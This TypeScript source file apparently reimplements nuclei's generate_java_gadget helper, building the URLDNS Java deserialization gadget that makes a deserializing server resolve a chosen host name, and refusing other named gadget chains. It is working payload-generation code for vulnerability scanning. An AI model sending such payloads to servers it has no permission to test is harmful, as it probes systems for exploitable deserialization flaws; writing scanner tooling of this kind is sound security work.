/**
 * `generate_java_gadget(gadget, url, encoding)`: serialized Java objects that make a deserializing
 * server act. keyhole writes them with its own serialization writer; of nuclei's gadgets it builds
 * `dns`, the URLDNS chain made only of JDK classes: a HashMap whose key is a java.net.URL with no
 * cached hash, so that reading the map hashes the URL, which resolves its host name. nuclei's other
 * gadgets are refused by name: jdk7u21, jdk8u20 and commons-collections4.0 embed compiled bytecode,
 * and commons-collections3.1 and groovy1 are graphs of third-party library classes, which a JDK alone
 * cannot read back to check them.
 */
import { bytesToText } from '../bytes.js';
import { argumentError } from '../errors.js';
import { gzipGo } from './compression.js';
import { fixed, type HelperFunction } from './helper.js';
import {
  type ClassDescriptor,
  JavaObjectStream,
  SC_SERIALIZABLE,
  SC_WRITE_METHOD,
} from './java-serialization.js';

const HASH_MAP: ClassDescriptor = {
  name: 'java.util.HashMap',
  serialVersionUid: 362498820763181265n,
  flags: SC_SERIALIZABLE | SC_WRITE_METHOD,
  fields: [
    { name: 'loadFactor', type: 'F' },
    { name: 'threshold', type: 'I' },
  ],
};

const STRING = 'Ljava/lang/String;';

const URL: ClassDescriptor = {
  name: 'java.net.URL',
  serialVersionUid: -7627629688361524110n,
  flags: SC_SERIALIZABLE | SC_WRITE_METHOD,
  fields: [
    { name: 'hashCode', type: 'I' },
    { name: 'port', type: 'I' },
    { name: 'authority', type: STRING },
    { name: 'file', type: STRING },
    { name: 'host', type: STRING },
    { name: 'protocol', type: STRING },
    { name: 'ref', type: STRING },
  ],
};

/** The scheme and host name of a URL as Go's url.Parse gives them (scheme lowercased, no port). */
export function schemeAndHost(url: string): { scheme: string; host: string } | undefined {
  // Go refuses ASCII control characters anywhere in a URL
  if (/[\u0000-\u001f\u007f]/.test(url)) return undefined;
  const match = /^([A-Za-z][A-Za-z0-9+.-]*):(.*)$/s.exec(url);
  if (match === null) return { scheme: '', host: '' };
  const [, scheme = '', rest = ''] = match;
  if (!rest.startsWith('//')) return { scheme: scheme.toLowerCase(), host: '' };
  const authority = /^\/\/([^/?#]*)/.exec(rest)?.[1] ?? '';
  const hostPort = authority.slice(authority.lastIndexOf('@') + 1);
  const colon = hostPort.lastIndexOf(':');
  const host = colon >= 0 && /^:\d*$/.test(hostPort.slice(colon)) ? hostPort.slice(0, colon) : hostPort;
  return { scheme: scheme.toLowerCase(), host: host.replace(/^\[(.*)\]$/, '$1') };
}

/** URLDNS: reading it makes the JVM resolve the URL's host. */
export function urlDnsGadget(url: string): Buffer | undefined {
  const parsed = schemeAndHost(url);
  if (parsed === undefined) return undefined;
  const stream = new JavaObjectStream();
  stream.object(HASH_MAP).f32(0.75).i32(12);
  // HashMap.writeObject: the table's capacity and the number of entries
  stream.blockData((block) => block.i32(16).i32(1));
  // the key: hashCode -1 makes HashMap.readObject compute it, which resolves the host
  stream.object(URL).i32(-1).i32(-1);
  stream.string(parsed.host, true).string('').string(parsed.host, true).string(parsed.scheme).null();
  stream.endBlockData();
  stream.string(url);
  stream.endBlockData();
  return stream.toBuffer();
}

/** nuclei's `+` of base64 is escaped for a URL query, nothing else. */
const base64ForUrl = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64').replaceAll('+', '%2B');

/** The payload in nuclei's encodings: raw, hex, gzip, gzip-base64, base64-raw, and base64 otherwise. */
export function encodeGadget(payload: Buffer, encoding: string): string {
  switch (encoding) {
    case 'raw':
      return bytesToText(payload);
    case 'hex':
      return payload.toString('hex');
    case 'gzip':
      return bytesToText(gzipGo(payload));
    case 'gzip-base64':
      return base64ForUrl(gzipGo(payload));
    case 'base64-raw':
      return payload.toString('base64');
    default:
      return base64ForUrl(payload);
  }
}

const UNBUILT_GADGETS = new Set([
  'jdk7u21',
  'jdk8u20',
  'commons-collections3.1',
  'commons-collections4.0',
  'groovy1',
]);

export const javaGadgetFunctions: readonly HelperFunction[] = [
  fixed('generate_java_gadget', 3, (args) => {
    const [gadget, url, encoding] = args;
    if (typeof gadget !== 'string' || typeof url !== 'string' || typeof encoding !== 'string') {
      throw argumentError(
        'generate_java_gadget',
        'takes three strings: the gadget, its URL or command, the encoding',
      );
    }
    if (UNBUILT_GADGETS.has(gadget)) {
      throw argumentError(
        'generate_java_gadget',
        `the "${gadget}" gadget is not supported: keyhole builds only "dns"`,
      );
    }
    // nuclei gives an empty text for a gadget it does not know or a URL it cannot parse
    if (gadget !== 'dns') return '';
    const payload = urlDnsGadget(url);
    return payload === undefined ? '' : encodeGadget(payload, encoding);
  }),
];
